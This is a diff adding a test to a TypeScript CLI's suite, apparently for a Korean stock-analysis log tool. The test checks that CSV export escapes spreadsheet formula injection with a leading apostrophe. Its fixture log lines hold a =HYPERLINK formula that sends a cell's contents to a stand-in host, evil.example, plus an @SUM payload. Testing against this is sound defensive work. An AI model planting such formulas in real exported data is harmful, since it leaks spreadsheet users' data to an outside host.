@@ -7,7 +7,9 @@ import { openStore, type Store } from '../src/store/store.js';
 import { displayWidth } from '../src/render/table.js';
 import { parseWindow } from '../src/market/window.js';
 import type { FastifyInstance } from 'fastify';
-import { cli, fixture, tempStore } from './helpers.js';
+import fs from 'node:fs';
+import path from 'node:path';
+import { cli, fixture, tempDir, tempStore } from './helpers.js';
 
 const NOW = Date.parse('2025-11-04T12:30:00+09:00');
 
@@ -147,6 +149,31 @@ describe('attempts as CSV and as a table', () => {
       '2025-11-04T11:00:00+09:00,000660,direction_change,"예측 방향 급변 (상승 비율: 40.0% → 60.0%, 변화: 20.0%, 임계값: 15.0%, 시장: trading)",trading,failed,true,false,,,1,0.003,',
     );
     expect(lines).toHaveLength(5); // header, 3 rows, and the empty string after the last CRLF
+  });
+
+  it('writes a log text a spreadsheet would run as a formula with a leading apostrophe, and numbers as they are', async () => {
+    // The reason text comes from the log: an attacker's line can start it with = (or +, -, @, a tab).
+    const hostile = tempStore();
+    const log = tempDir('craveny-csv-');
+    const file = path.join(log, 'backend.log');
+    const line = (time: string, text: string) => `2025-11-04 ${time},000 - backend.services.stock_analysis_service - INFO - ${text}`;
+    fs.writeFileSync(
+      file,
+      [
+        line('10:00:00', '종목 005930 업데이트 시작: =HYPERLINK("http://evil.example/?"&A1,"click")'),
+        line('10:00:20', '종목 005930의 분석 요약 업데이트 완료'),
+        line('10:30:00', '종목 000660 업데이트 시작: @SUM(1+1)'),
+        line('10:30:20', '종목 000660의 분석 요약 업데이트 완료'),
+      ].join('\n') + '\n',
+    );
+    expect((await cli(['--db', hostile, 'ingest', file])).code).toBe(0);
+    const run = await cli(['--db', hostile, 'attempts', '--format', 'csv', '--days', '1', '--until', '2025-11-04'], { now: NOW });
+    expect(run.code, run.stderr).toBe(0);
+    const rows = run.stdout.split('\r\n').slice(1, 3);
+    expect(rows[0]).toContain(',other,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",');
+    expect(rows[1]).toContain(",other,'@SUM(1+1),");
+    // Durations and calls are numbers, not text: written as they are.
+    expect(rows[0]).toMatch(/,20,0,0,$/);
   });
 
   it('fits the table into 80 columns in a pipe and keeps every detail on one line', async () => {
